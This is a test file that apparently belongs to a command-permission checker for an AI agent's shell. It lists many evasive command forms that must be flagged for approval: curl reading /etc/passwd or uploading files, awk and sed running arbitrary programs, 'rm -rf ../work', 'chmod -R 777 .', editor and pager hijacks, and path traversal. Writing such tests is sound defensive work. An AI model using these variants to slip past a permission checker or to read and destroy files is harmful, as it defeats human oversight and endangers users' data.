// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is shell

import { expect, onTestFinished, test } from 'vitest'
import { each, verdicts } from '../kit/judge.ts'
import { allow, prepared } from './shell-bench.ts'

/** Programs that are known, and the ways in which one of them could do more than its rule says. `M` is any program. */

test.each([
  [
    'a word that is known only when it runs may be an option',
    ['date $(cat a.txt)', 'date "$(cat a.txt)"', 'rg "$x" p', 'grep "$(cat a.txt)" p', 'curl "$x"', 'jq "$x" p'],
  ],
  [
    'a word that is not quoted may become several',
    ['head -n $(cat a.txt) p', 'git log -n $x', 'grep -e $x p', 'grep -- $x p', 'wget http://h/$x'],
  ],
  [
    'each script of sed counts, however its option is spelled',
    ["sed --expr p --expr 'e M' a.txt", "sed -n -e p --expr 'e M' p", "sed --ex='e M' p", "sed -be'e M' p"],
  ],
  [
    'behind a shortened option the first operand is a file',
    [
      'sed --expr=p ../elsewhere/x',
      'grep --reg x ../elsewhere/x',
      'grep --fil=p ../elsewhere/x',
      'cc -I../elsewhere a.c',
    ],
  ],
  [
    'the script of awk is the first operand, and quotes in it may be none',
    [
      `awk '/"/{system("M")}/"/' p`,
      `awk --field-separator , 'BEGIN{system("M")}'`,
      `awk '# "\n BEGIN{system("M")} # "'`,
      `awk 'BEGIN{SYMTAB["AR" "GV"][1]="../p"}' p`,
    ],
  ],
  [
    'what would open an editor, a manual or a browser is asked for',
    [
      ...['git commit', 'git commit -a', 'git commit --amend', 'git commit --allow-empty -q', 'git commit -t a.txt'],
      ...['git commit --squash HEAD', 'git commit --fixup amend:HEAD', 'git commit --fixup=reword:HEAD'],
      ...[
        'git commit -m x --no-message',
        'git commit -m x -e',
        'git commit -c HEAD',
        'git commit --reedit-message=HEAD',
      ],
      ...['git tag -a v1', 'git tag --annot v1', 'git tag -fa v1', 'git branch --edit-description', 'git notes edit'],
      ...['git merge --continue', 'git rebase --continue', 'git rebase --cont', 'git revert --continue'],
      ...['git rebase -i HEAD~2', 'git add -p', 'git add -e', 'git config -e', 'crontab -e', 'GIT_EDITOR=M git commit'],
      ...[
        'EDITOR=M git commit -m x',
        'VISUAL=M git log',
        'GIT_SEQUENCE_EDITOR=M git rebase --onto a b',
        'PAGER=M git log',
      ],
      ...['git log --help', 'git commit --help', 'cargo build --help', 'npm fund left-pad', 'man ls'],
    ],
  ],
  ['a loop inside a loop sets the same variable', ['for f in p; do for f in ../x; do true; done; cat "$f"; done']],
  ['printf sets a variable by its format', ["printf '%ln' PATH; ls", "printf '%hhn' PATH", "printf '%5.3ln' PATH"]],
  [
    'a pattern means what bash makes of it, in every language',
    ["find . [a'-'c]d*", "cat ['!'a]l*", 'cat [a\\-c]link', 'cat ??', 'cat [!a]', 'wc *', 'ls -- *'],
  ],
  [
    'a program has options of its own style',
    [
      'xxd -ps p out',
      'xxd -- -s out',
      "less '+!M' p",
      "less --lesskey-content='x' p",
      'strings @../x',
      'jq -f a.txt p',
    ],
  ],
  [
    'xargs gives more than one name',
    ['find list -type f | xargs uniq', 'rg --files list | xargs xxd', 'find 1 1 -type f | xargs awk'],
  ],
  [
    'what is printed is not only names of files in a folder',
    [
      'echo x | grep -l --label=../x x | xargs cat',
      'echo x | grep -l x - | xargs cat',
      "rg --files list --path-separator ' ' | xargs cat",
      'find list -help | xargs cat',
    ],
  ],
  [
    'an archive brings links',
    ['tar xf x.tar && cat l', 'tar xvf x.tar; cat l', 'tar xf x.tar && cd list && git status'],
  ],
  [
    'curl reads files in many ways',
    [
      "curl -F 'a=@alink;type=t' http://x",
      `curl -F 'a=@"alink"' http://x`,
      'curl --data-urlencode x@../p http://x',
      'curl -H @../p http://x',
      "curl 'f{ile}:///etc/passwd'",
      'curl --url=file:///etc/passwd',
    ],
  ],
  ['a folder has links in it that are followed', ['diff . list', 'diff -r sub list', "zip -R o.zip '*'"]],
  [
    'a file gets another name than the one that is given',
    ['cp --parents .git/x out', 'cp -bS v p .en', 'mv -bSv p .en'],
  ],
  [
    'which name comes first depends on the language',
    ['grep [ap]*', 'sed -n [p]', 'awk [p]', 'cp [ap]*', 'mv [ap]*', 'cp p l*'],
  ],
  ['a number before a redirection is a word when it is large', ['99999999999>x ls', 'ls 123456>x']],
  ['the program comes from the input', ['echo x | node --title x', 'node --title x', 'node -']],
  [
    'a script of sed goes on where its pattern seems to end',
    [
      "sed -n 's/[/]/p;s/w sub/g/p' p",
      "sed 's/[/]/p;s/w ../elsewhere/1' p",
      "sed 's/[[:space:]/]/p;s/w out/x/p' p",
      "sed 's|[|]|p;s|w new|g|' p",
    ],
  ],
  [
    'what is copied over a link is written where it leads',
    ['cp -r docs sub', 'cp -a docs/. sub', 'cp -RT docs sub', 'cp -l .git/config y', 'cp -vs p y', 'cp --lin p y'],
  ],
  [
    'a pattern prints what a folder holds',
    ['echo ../*', "printf '%s' ../elsewhere/*", 'ls docs/../../*', 'for f in ../*; do echo "$f"; done', 'true /*'],
  ],
  [
    'the whole workspace has all that is protected in it',
    ['chmod -R 777 .', 'rm -rf ../work', 'chown -R me ./', 'chgrp -R x docs/..'],
  ],
  [
    'a mode may look like an option, and then the first operand is a file',
    ['chmod -w /etc/hosts', 'chmod -R -w $HOME/private.txt p', 'chmod -Rx ~/list list', 'chmod -- -w p ../other'],
  ],
  [
    'a repository in a folder runs its own programs',
    [
      'git push ./repo HEAD',
      'git push repo HEAD',
      'cd list && git push repo HEAD',
      'git push -u "repo" HEAD',
      'git push --repo=repo',
      'git push --repo repo',
      'git fetch repo',
      'git fetch --multiple origin repo',
      'git pull repo main',
      'git ls-remote ./repo',
      'git remote show repo',
      'git clone repo other',
      'mkdir new && git push new HEAD',
      'tar xf x.tar && git push new HEAD',
    ],
  ],
  [
    'a beginning of an option may be another option, so that its value may be a file',
    ['column --tabl p', 'grep --max 1 ../x', 'sort --ke p ../x', 'du --max 1 ..', 'curl --heade @../p http://x'],
  ],
  [
    'git checks signatures with a program, and asks which pieces to take in an editor',
    ["git log --format='%h %G?'", 'git log --pretty=%GK', 'git tag -v v1', 'git add --patch', 'git stash push --patch'],
  ],
  [
    'a build is given programs and places by its options',
    [
      'cmake -B build -DCMAKE_C_COMPILER=M .',
      'cmake -B build -D CMAKE_TOOLCHAIN_FILE=../x .',
      'cmake --build build -- SHELL=M',
      'go test -gcflags=all=-cpuprofile=../x ./...',
      'go clean -modcache',
      'pytest --cov-report html:../x',
      'pytest @p',
      'jest --setupFilesAfterEnv ./p',
      'jest --reporters=./p',
      'jest --globalTeardown ./p',
      'jest --testResultsP=./p',
      'prettier --plugin-search-dir=. a.txt',
      'node --dns-result-order ipv4first --eval x',
      'python3 --unknown p -c x',
      'file -m p:../x p',
      'wget http://h/.env#/x',
      'jq -n \'"x" | modulemeta\'',
    ],
  ],
  ['the word behind a known command chooses another one', ['git bisect run M', 'git submodule foreach M']],
  [
    'a new program of the table is asked for beyond what is known of it',
    [
      'rsync -e M a.txt p',
      'rsync a.txt host:x',
      'rsync -a a.txt ..',
      'kubectl get pods --kubeconfig=x',
      'kubectl get pods -o jsonpath-file=p',
      'gh pr view --web',
      'uv run M',
      'go run example.com/x@latest',
      'cc -fplugin=./x.so a.c',
      'cc @p',
      'cc -wrapper M a.c',
      'cc a.c -o ../x',
    ],
  ],
])('is asked for: %s', async (_, lines) => {
  expect(await verdicts(prepared({ allow }), lines)).toEqual(each(lines, 'ask'))
})

test('a path through /proc is asked for, as it leads a command elsewhere than the server', async () => {
  const bench = prepared({ allow })
  const before = process.cwd()
  process.chdir(bench.workspace)
  onTestFinished(() => process.chdir(before))
  const lines = ['cat /proc/self/cwd/p', 'cd sub && cat /proc/self/cwd/link', 'cp p /proc/self/cwd/sub/x']
  expect(await verdicts(bench, lines)).toEqual(each(lines, 'ask'))
})

test('what is near to these and harmless runs', async () => {
  const fine = [
    'date +%s',
    'diff /dev/null p',
    'curl -s "https://x/$id"',
    'curl localhost:3000/health',
    "curl -H 'A: b' -F a=b http://localhost:3000/x",
    'curl -d @p http://x/',
    'git log --grep "$x"',
    'echo $(date)',
    'head -n "$x" p',
    `awk '/x/ {print "a"}' p`,
    'sed -n -e 1p -e 3p p',
    'xxd -l 16 p',
    'find list -type f | xargs wc -l',
    'rg -l x list | xargs wc -l',
    'grep -n x *.txt',
    "printf '%s %d%%\\n' a 3",
    'diff -r list 1',
    'for i in 1 2; do for j in 3 4; do echo $i $j; done; done',
    'rsync -a list/ copy/',
    'kubectl get pods -n web -o wide',
    'gh pr view 12 --comments',
    'go run ./cmd/x --fast',
    'cc -Wall -O2 -o x a.c -lm',
    'git bisect start',
    'git submodule update --init',
    'git push origin HEAD',
    'git fetch upstream',
    'git add -A && git push origin HEAD',
    'git clone https://example.com/x.git',
    'git clone git@example.com:a/b.git',
    "sed 's/[a-z]*/x/g' p",
    "sed 's/[[:space:]]//; s/\\[x\\]/y/' p",
    'cp -r list copy',
    'echo list/* p*',
    'for f in list/*; do wc -l "$f"; done',
    'chmod -R u+w list',
    'cmake -B build -DCMAKE_BUILD_TYPE=Release -DX:BOOL=ON',
    'cmake --build build -- -j4',
    'pytest --cov-report term-missing',
    'jest --runInBand src',
    'prettier --check .',
    'node --enable-source-maps p',
    'column --table p',
  ]
  expect(await verdicts(prepared({ allow }), fine)).toEqual(each(fine, 'run'))
})
